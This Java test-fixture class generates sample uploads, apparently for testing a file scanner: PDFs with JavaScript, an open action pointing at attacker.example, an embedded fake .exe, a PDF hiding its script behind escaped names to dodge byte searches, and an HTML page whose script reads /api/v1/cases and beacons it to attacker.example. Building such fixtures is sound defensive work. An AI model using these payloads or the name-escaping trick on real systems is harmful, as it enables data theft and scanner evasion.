package fi.aso.testing;

import com.lowagie.text.Document;
import com.lowagie.text.Paragraph;
import com.lowagie.text.pdf.PdfAction;
import com.lowagie.text.pdf.PdfFileSpecification;
import com.lowagie.text.pdf.PdfWriter;
import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.function.Consumer;
import javax.imageio.ImageIO;

/**
 * Real files as a case worker's scanner, or an attacker, would upload them: PDFs written by OpenPDF
 * (plain, or with JavaScript, an automatic action, an embedded file), one written by hand with its
 * script hidden behind escaped names, PNG and JPEG images, and an HTML page.
 */
public final class ScanFiles {

  private ScanFiles() {}

  public static byte[] pdf() {
    return pdf(writer -> {});
  }

  /** Document-level JavaScript (the /Names tree's /JavaScript). */
  public static byte[] pdfWithJavaScript() {
    return pdf(writer -> writer.addJavaScript("app.alert('suostumus');"));
  }

  /** An /OpenAction that opens a web address when the file is opened. */
  public static byte[] pdfThatActsWhenOpened() {
    return pdf(writer -> writer.setOpenAction(new PdfAction("https://attacker.example/")));
  }

  public static byte[] pdfWithEmbeddedFile() {
    return pdf(
        writer -> {
          try {
            writer.addFileAttachment(
                "liite",
                PdfFileSpecification.fileEmbedded(
                    writer, null, "liite.exe", "MZ not really".getBytes(StandardCharsets.UTF_8)));
          } catch (IOException e) {
            throw new UncheckedIOException(e);
          }
        });
  }

  /**
   * Written by hand: a link annotation whose action is JavaScript, written inside the page (no
   * object of its own) with its names escaped ({@code /J#53} is /JS, {@code /J#61vaScript} is
   * /JavaScript), so that searching the bytes for "JavaScript" finds nothing.
   */
  public static byte[] pdfWithHiddenJavaScript() {
    List<String> objects =
        List.of(
            "<< /Type /Catalog /Pages 2 0 R >>",
            "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [<< /Type /Annot"
                + " /Subtype /Link /Rect [0 0 100 100] /A << /S /J#61vaScript /J#53"
                + " (app.alert\\(1\\)) >> >>] >>");
    StringBuilder pdf = new StringBuilder("%PDF-1.4\n");
    List<Integer> offsets = new ArrayList<>();
    for (int i = 0; i < objects.size(); i++) {
      offsets.add(pdf.length());
      pdf.append(i + 1).append(" 0 obj\n").append(objects.get(i)).append("\nendobj\n");
    }
    int xref = pdf.length();
    pdf.append("xref\n0 ").append(objects.size() + 1).append("\n0000000000 65535 f \n");
    for (int offset : offsets) {
      pdf.append(String.format("%010d 00000 n \n", offset));
    }
    pdf.append("trailer\n<< /Size ")
        .append(objects.size() + 1)
        .append(" /Root 1 0 R >>\nstartxref\n")
        .append(xref)
        .append("\n%%EOF\n");
    return pdf.toString().getBytes(StandardCharsets.ISO_8859_1);
  }

  public static byte[] png() {
    return image("png");
  }

  public static byte[] jpeg() {
    return image("jpg");
  }

  /** A web page that would run its script if a browser opened it as a page. */
  public static byte[] html() {
    return "<!DOCTYPE html><html><head><title>lomake</title></head><body><script>fetch('/api/v1/cases').then(r=>r.text()).then(t=>navigator.sendBeacon('https://attacker.example/',t))</script></body></html>"
        .getBytes(StandardCharsets.UTF_8);
  }

  private static byte[] pdf(Consumer<PdfWriter> extra) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    Document document = new Document();
    PdfWriter writer = PdfWriter.getInstance(document, out);
    document.open();
    document.add(new Paragraph("Suostumus tietojen luovuttamiseen - allekirjoitettu"));
    extra.accept(writer);
    document.close();
    return out.toByteArray();
  }

  private static byte[] image(String format) {
    BufferedImage image = new BufferedImage(40, 60, BufferedImage.TYPE_INT_RGB);
    image.setRGB(10, 10, 0xffffff);
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    try {
      ImageIO.write(image, format, out);
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
    return out.toByteArray();
  }
}
